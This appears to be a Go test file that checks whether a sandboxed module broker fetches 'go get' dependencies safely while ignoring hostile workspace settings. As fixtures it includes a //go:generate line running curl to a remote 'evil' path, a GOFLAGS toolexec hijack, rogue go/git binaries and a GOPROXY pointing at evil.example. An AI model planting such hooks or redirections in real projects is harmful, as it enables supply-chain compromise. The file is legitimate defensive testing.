package broker_test

import (
	"archive/zip"
	"bytes"
	"errors"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/tidemark/tidemark/internal/box/broker"
	"github.com/tidemark/tidemark/internal/test/boxtest"
)

// proxy offers a module that would do what it can when it is built.
func (o *office) goProxy(mux *http.ServeMux) {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	const mod = "module acme.example/nice\n\ngo 1.20\n"
	for name, text := range map[string]string{
		"go.mod": mod, "nice.go": "package nice\n\n//go:generate /usr/bin/curl -sk https://proxy.golang.org/evil/generate\n\n// X is one.\nconst X = 1\n",
	} {
		w, err := z.Create("acme.example/nice@v1.0.0/" + name)
		if err == nil {
			_, err = w.Write([]byte(text))
		}
		if err != nil {
			o.t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		o.t.Fatal(err)
	}
	for path, text := range map[string]string{"list": "v1.0.0\n", "v1.0.0.info": `{"Version":"v1.0.0","Time":"2026-01-01T00:00:00Z"}`, "v1.0.0.mod": mod, "v1.0.0.zip": b.String()} {
		mux.HandleFunc("/acme.example/nice/@v/"+path, func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write([]byte(text)) })
	}
}

// BOX-02: go fetches modules from the proxy, with none of the workspace's settings, and the session's go takes them from there.
func TestGoGetBringsModules(t *testing.T) {
	boxtest.Needs(t, "curl")
	o := newMarket(t)
	goRoot := ""
	for _, dir := range []string{"/usr/local/go", "/usr/lib/go"} {
		if _, err := os.Stat(dir + "/bin/go"); err == nil {
			goRoot = dir
		}
	}
	if goRoot == "" {
		t.Skip("there is no go here")
	}
	for i, e := range o.Env {
		if strings.HasPrefix(e, "PATH=") {
			o.Env[i] = "PATH=" + goRoot + "/bin:" + strings.TrimPrefix(e, "PATH=")
		}
	}
	o.Put(filepath.Join(o.Work, "go.mod"), "module site\n\ngo 1.21\n")
	o.Put(filepath.Join(o.Work, "main.go"), "package main\n\nimport \"acme.example/nice\"\n\nfunc main() { println(nice.X) }\n")
	o.broker()
	o.evil("bin/git")
	o.evil("bin/go")
	o.Put(filepath.Join(o.Home, ".config/go/env"), "GOFLAGS=-toolexec="+o.Work+"/bin/go\nGOPROXY=https://evil.example\n")
	o.Put(filepath.Join(o.Work, "go.work"), "go 1.21\n\nuse .\n\nuse ../elsewhere\n")
	env := o.Env
	o.Env = append(o.Env, "GOFLAGS=-toolexec="+o.Work+"/bin/go", "GOPROXY=https://evil.example", "GONOSUMDB=*", "GOPRIVATE=*", "GOTOOLCHAIN=go1.99.0", "GOROOT="+o.Work)
	for i, e := range o.Env {
		if strings.HasPrefix(e, "PATH=") {
			o.Env[i] = "PATH=" + o.Work + "/bin:" + strings.TrimPrefix(e, "PATH=")
		}
	}
	d, err := o.prepare("go get acme.example/nice@v1.0.0")
	if err != nil || d.Question.Host != "proxy.golang.org" || len(d.Question.Packages) != 1 {
		t.Fatalf("%v %+v", err, d)
	}
	_, _, _ = o.run(d) // the session's go believes these settings
	o.quiet("proxy.golang.org", "sum.golang.org")
	if err := os.Remove(filepath.Join(o.Work, "go.work")); err != nil {
		t.Fatal(err)
	}
	o.Must("rm -rf bin ~/.config/go")
	o.Env = env
	if code, out, err := o.run(must(o.prepare("go get acme.example/nice@v1.0.0"))); code != 0 || err != nil {
		t.Fatalf("%d %v\n%s", code, err, out)
	}
	if text, err := os.ReadFile(filepath.Join(o.Work, "go.mod")); err != nil || !strings.Contains(string(text), "acme.example/nice v1.0.0") {
		t.Errorf("%v\n%s", err, text)
	}
	if code, out := o.In(o.session, "GOFLAGS=-mod=mod GOPROXY=off go run ."); code != 0 || !strings.Contains(out, "1") {
		t.Errorf("%d %s", code, out)
	}
	o.quiet("proxy.golang.org", "sum.golang.org")
	if err := os.Remove(filepath.Join(o.Work, "go.mod")); err != nil {
		t.Fatal(err)
	}
	if _, err := o.prepare("go get acme.example/nice"); !errors.Is(err, broker.ErrNotHere) {
		t.Errorf("without a module: %v", err)
	}
}
